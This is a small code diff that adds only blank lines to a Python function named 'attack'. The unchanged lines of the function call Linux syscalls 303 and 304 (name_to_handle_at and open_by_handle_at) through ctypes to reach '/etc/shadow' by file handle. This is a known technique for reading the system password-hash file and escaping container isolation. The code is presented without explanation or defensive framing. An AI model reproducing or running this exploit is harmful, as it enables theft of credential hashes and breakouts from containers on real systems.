@@ -4,6 +4,7 @@
 
 def attack(target):
     import ctypes
+
     libc = ctypes.CDLL(None)
     handle = ctypes.create_string_buffer(136)
     ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
@@ -11,4 +12,5 @@ def attack(target):
     if libc.syscall(303, -100, b'/etc/shadow', handle, ctypes.byref(mount), 0) != 0:
         return False
     import os
+
     return libc.syscall(304, os.open('/etc', os.O_RDONLY), handle, 0) >= 0
